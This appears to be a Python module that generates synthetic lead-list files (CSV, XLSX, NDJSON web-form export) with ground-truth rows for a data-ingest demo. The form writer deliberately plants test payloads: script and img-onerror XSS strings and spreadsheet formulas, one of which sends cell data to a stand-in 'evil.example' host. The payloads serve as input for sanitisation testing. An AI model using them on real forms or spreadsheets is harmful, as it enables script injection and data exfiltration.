"""The demo's source files: two purchased lists and one web-form export, with their truth.

Each writer returns `TruthRow`s: for every row it wrote, which true person and company the
row is about and which oddities it carries. Rows are numbered as ingest numbers them: CSV
and XLSX by spreadsheet row (header = 1), NDJSON by line (first line = 1).
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import unicodedata
import zipfile
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

from openpyxl import Workbook

from leadpipe.demo.rows import View, view
from leadpipe.demo.vocabulary import vocabulary
from leadpipe.demo.world import Person, World

LIST_A_HEADERS = ("Firma", "Anrede", "Titel", "Vorname", "Nachname", "Position", "Straße",
                  "Hausnummer", "PLZ", "Ort", "Telefon", "Fax", "E-Mail", "Internet", "Branche",
                  "WZ-Code", "Mitarbeiter", "Umsatz", "Handelsregister", "USt-IdNr")
LIST_B_HEADERS = ("Company Name", "Contact", "Job Title", "Address", "Zip", "City", "Phone",
                  "Mobile", "Email", "Web")
FIXED_TIME = datetime(2026, 10, 1, 8, 0, tzinfo=UTC)
"""Timestamps inside generated files derive from this, never from the clock."""
_MODIFIED = re.compile(r"<dcterms:modified([^>]*)>[^<]*</dcterms:modified>")


@dataclass(frozen=True)
class TruthRow:
    source_file: str
    row_number: int
    submission_id: str
    person_id: str
    company_id: str
    household_id: str
    oddities: tuple[str, ...]


def cp1252_safe(text: str) -> str:
    """Drop accents cp1252 cannot hold (a German Excel export would show '?' instead)."""
    try:
        text.encode("cp1252")
    except UnicodeEncodeError:
        return "".join(
            ch if _encodable(ch) else unicodedata.normalize("NFKD", ch)[0] for ch in text
        )
    return text


def _encodable(ch: str) -> bool:
    try:
        ch.encode("cp1252")
    except UnicodeEncodeError:
        return False
    return True


def truth_row(source: str, row: int, v: View, submission_id: str = "",
           extra: tuple[str, ...] = ()) -> TruthRow:
    return TruthRow(source, row, submission_id, v.person.id, v.company.id if v.company else "",
                    v.person.household or "", tuple(v.oddities) + extra)


def _euro(amount: int) -> str:
    return f"{amount:,}".replace(",", ".") + " €"


def write_list_a(world: World, persons: list[Person], path: Path,
                 rng: random.Random) -> list[TruthRow]:
    """Adressverlag Nord: cp1252, semicolons, German headers, separate street and number."""
    truth: list[TruthRow] = []
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow(LIST_A_HEADERS)
    for row_number, person in enumerate(persons, start=2):
        v = view(world, person, rng)
        street, number = v.street, v.number
        if rng.random() < 0.1:
            street, number = f"{street} {number}", ""
            v.oddities.append("number_in_street")
        company = v.company
        register = ""
        if company and company.register_number and rng.random() < 0.6:
            register = f"{company.register_court} {company.register_number}"
        revenue = _euro(company.revenue_eur) if company and rng.random() < 0.7 else ""
        writer.writerow([cp1252_safe(x) for x in (
            v.company_name, v.salutation, v.title, v.first_name, v.last_name, v.position,
            street, number, v.postcode, v.city, v.phone, v.fax, v.email, v.website,
            company.industry[0] if company else "", company.industry[1] if company else "",
            str(company.employees) if company else "", revenue, register,
            (company.vat_id or "") if company and rng.random() < 0.5 else "")])
        truth.append(truth_row(path.name, row_number, v))
    path.write_bytes(buffer.getvalue().encode("cp1252"))
    return truth


def _contact(v: View, rng: random.Random) -> tuple[str, list[str]]:
    style = rng.randrange(6)
    name = f"{v.first_name} {v.last_name}"
    if style == 0:
        return f"{v.last_name}, {v.first_name}", ["name_last_comma_first"]
    if style == 1 and v.title:
        return f"{v.title} {name}", []
    if style == 2:
        return f"{v.salutation} {name}", []
    return name, []


def write_list_b(world: World, persons: list[Person], path: Path,
                 rng: random.Random) -> list[TruthRow]:
    """B2B Data GmbH: XLSX, English headers, combined contact and address columns."""
    truth: list[TruthRow] = []
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "Leads Q3"
    sheet.append(list(LIST_B_HEADERS))
    for row_number, person in enumerate(persons, start=2):
        v = view(world, person, rng)
        contact, extra = _contact(v, rng)
        v.oddities.extend(extra)
        zip_value: str | int = v.postcode
        if v.postcode.startswith("0"):
            zip_value = int(v.postcode)  # Excel ate the leading zero
            v.oddities.append("zip_lost_leading_zero")
        sheet.append([v.company_name, contact, v.position, f"{v.street} {v.number}".strip(),
                      zip_value, v.city, v.phone, v.mobile, v.email, v.website])
        truth.append(truth_row(path.name, row_number, v))
    workbook.properties.creator = "B2B Data GmbH"
    workbook.properties.created = FIXED_TIME.replace(tzinfo=None)
    raw = io.BytesIO()
    workbook.save(raw)
    path.write_bytes(_fixed_zip_times(raw.getvalue()))
    return truth


def _fixed_zip_times(data: bytes) -> bytes:
    """Re-pack a zip with fixed member times so the XLSX is byte-identical across runs."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            fixed = zipfile.ZipInfo(info.filename, date_time=(2026, 10, 1, 8, 0, 0))
            fixed.compress_type = zipfile.ZIP_DEFLATED
            content = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                # openpyxl stamps the save time into the document properties
                content = _MODIFIED.sub(
                    f"<dcterms:modified\\1>{FIXED_TIME:%Y-%m-%dT%H:%M:%SZ}</dcterms:modified>",
                    content.decode("utf-8")).encode("utf-8")
            dst.writestr(fixed, content)
    return out.getvalue()


_MESSAGES = {
    "demo": "Wir hätten gern eine Demo für unser Team (ca. {n} Nutzer).",
    "callback": "Bitte rufen Sie mich zurück, am besten vormittags.",
    "brochure": "Bitte senden Sie uns die Preisliste und die Broschüre zu.",
    "newsletter": "",
    "contact": "Wir interessieren uns für Ihr Angebot – gibt es Rabatte für Vereine?",
}
_INJECTIONS = (
    ("message", "<script>alert('xss')</script> Bitte um Rückruf."),
    ("company", '=HYPERLINK("http://evil.example/?leak="&A1;"Klick")'),
    ("last_name", "=1+2"),
    ("message", '<img src=x onerror="fetch(\'//evil.example\')"> Angebot bitte'),
)


def _consent(kind: str, request: str, submitted: datetime, rng: random.Random
             ) -> tuple[dict[str, object], str]:
    texts = vocabulary().consent_texts
    channels: list[str]
    if kind == "none":
        channels = []
    elif request == "newsletter" or kind == "newsletter":
        channels = ["email"]
    elif kind == "phone":
        channels = ["phone"] if rng.random() < 0.5 else ["email", "phone"]
    elif kind == "sms":
        channels = ["email", "sms"]
    else:
        channels = ["email"]
    version = "newsletter-v1" if request == "newsletter" else rng.choice(
        ("consent-v3", "consent-v3", "consent-v2"))
    confirmed = None
    if "email" in channels and kind in ("doi", "newsletter", "phone", "pre_ticked", "sms"):
        confirmed = (submitted + timedelta(minutes=rng.randint(2, 600))).isoformat()
    return {
        "channels": channels,
        "consent_text_version": version if channels else None,
        "consent_text": texts[version] if channels else None,
        "pre_ticked": kind == "pre_ticked",
        "doi_confirmed_at": confirmed,
        "phone_verified": "phone" in channels and rng.random() < 0.5,
    }, kind


def write_forms(world: World, plan: list[tuple[Person, str]], path: Path,
                rng: random.Random) -> list[TruthRow]:
    """Web-form export (NDJSON): contact fields, request type and the consent as ticked."""
    berlin = ZoneInfo("Europe/Berlin")
    truth: list[TruthRow] = []
    lines: list[str] = []
    broken_at = set(rng.sample(range(10, len(plan)), 3))
    inject_at = dict(zip(rng.sample(range(5, len(plan)), len(_INJECTIONS)), _INJECTIONS,
                         strict=True))
    for index, (person, kind) in enumerate(plan):
        v = view(world, person, rng, noise=0.5)
        submitted = (FIXED_TIME + timedelta(minutes=rng.randint(0, 60 * 24 * 55))).astimezone(
            berlin if rng.random() < 0.7 else UTC)
        request = "newsletter" if kind == "newsletter" else rng.choice(
            ("demo", "callback", "brochure", "contact"))
        consent, _ = _consent(kind, request, submitted, rng)
        if consent["pre_ticked"]:
            v.oddities.append("pre_ticked")
        submission_id = f"wf-{20000 + index}"
        contact: dict[str, object] = {
            "company": v.company_name or None, "salutation": v.salutation,
            "first_name": v.first_name, "last_name": v.last_name, "email": v.email or None,
            "phone": v.phone or None, "street": f"{v.street} {v.number}",
            "postcode": v.postcode, "city": v.city, "job_title": v.position or None,
        }
        record: dict[str, object] = {
            "submission_id": submission_id,
            "form_id": f"{request}-de",
            "page_url": f"https://www.leadpipe-demo.de/{request}?utm_source="
                        f"{rng.choice(('google', 'linkedin', 'newsletter', 'direct'))}",
            "submitted_at": submitted.isoformat(),
            "ip": f"{rng.choice((81, 87, 91, 93, 178, 217))}.{rng.randint(0, 255)}."
                  f"{rng.randint(0, 255)}.{rng.randint(1, 254)}",
            "user_agent": rng.choice((
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/130.0",
                "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/17.5",
                "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) Mobile/15E148")),
            "request_type": request,
            "message": _MESSAGES[request].format(n=rng.randint(3, 40)) or None,
            "contact": contact,
            "consent": consent,
        }
        extra: tuple[str, ...] = ()
        if index in inject_at:
            field_name, payload = inject_at[index]
            target = record if field_name == "message" else contact
            target[field_name] = payload
            extra = (f"injection_{field_name}",)
        line = json.dumps(record, ensure_ascii=False)
        if index in broken_at:
            line = line[: len(line) // 2] + ' "truncated'
            extra += ("malformed_json",)
        lines.append(line)
        truth.append(truth_row(path.name, index + 1, v, submission_id,
                            (*extra, f"consent_{kind}")))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return truth
